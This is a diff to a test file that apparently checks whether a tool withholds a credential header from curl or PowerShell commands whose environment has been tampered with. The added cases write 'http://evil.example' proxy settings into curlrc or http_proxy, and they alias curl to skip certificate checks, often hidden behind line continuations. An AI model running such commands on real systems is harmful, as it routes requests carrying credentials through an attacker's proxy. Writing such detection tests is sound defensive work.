@@ -308,6 +308,7 @@ describe('who may get the header', () => {
             ...['. ./settings.sh', 'set -e; source ../.env', '[ -f .env ] && . ./.env'],
             ...[
               'if ! source .env; then exit; fi',
+              ...['2>/dev/null . ./x', 'command -- . ./x', '"source" x', "trap '. ./x' USR1"],
               'eval "$(./settings)"',
               '[ -s "$D/nvm.sh" ] && \\. "$D/nvm.sh"',
             ],
@@ -1174,6 +1175,13 @@ describe('who may get the header', () => {
         'rm -f a; cp b ~/.curlrc\ncurl',
         'cat a > ~/.curlrc\ncurl',
         'echo "proxy = http://evil.example" >> ~/.curlrc\ncurl',
+        'echo "proxy = http://evil.example" > ~/.config/curlrc\ncurl',
+        "env 'http_proxy'=http://evil.example curl",
+        'alias \\\n  curl="curl -k"\ncurl',
+        'function \\\ncurl { command curl -k "$@"; }\ncurl',
+        '# a \\\nexport \\\n  "http_proxy"="http://evil.example"\ncurl',
+        'export \\\n# \\\n  "http_proxy"="http://evil.example"\ncurl',
+        "BASH_ALIASES[curl]='curl -k'\ncurl",
       ].map((command): Row => [
         'the environment or another curl',
         posixFormat,
@@ -1320,12 +1328,13 @@ describe('who may get the header', () => {
         'set http_proxy=http://evil.example',
         'set "HTTPS_PROXY=http://e"',
         'doskey curl=curl -k $*',
+        'set ^\n  http_proxy=http://evil.example',
         'copy a "%APPDATA%\\_curlrc"',
       ].map((line): Row => [
         'the environment',
         cmdFormat,
         `${line}\ncurl ${url}\n`,
-        /^unknown 1: its script has/,
+        /^unknown \d: its script has/,
         /^unknown/,
       ]),
       ...[
@@ -1334,13 +1343,14 @@ describe('who may get the header', () => {
         '[System.Net.ServicePointManager]::ServerCertificateValidationCallback = {$true}',
         '[System.Net.WebRequest]::DefaultWebProxy = $p',
         'function irm { Invoke-RestMethod -Proxy e @args }',
+        '$env:http_proxy `\n  = "http://evil.example"',
         'Set-Alias irm evil',
       ].map((line): Row => [
         'what counts for all requests',
         powershellFormat,
         `${line}\nirm ${url}\n`,
-        /unknown 1: its script has/,
-        /unknown 1: its script has/,
+        /unknown \d: its script has/,
+        /unknown \d: its script has/,
       ]),
       [
         'parameters from a variable beside headers',
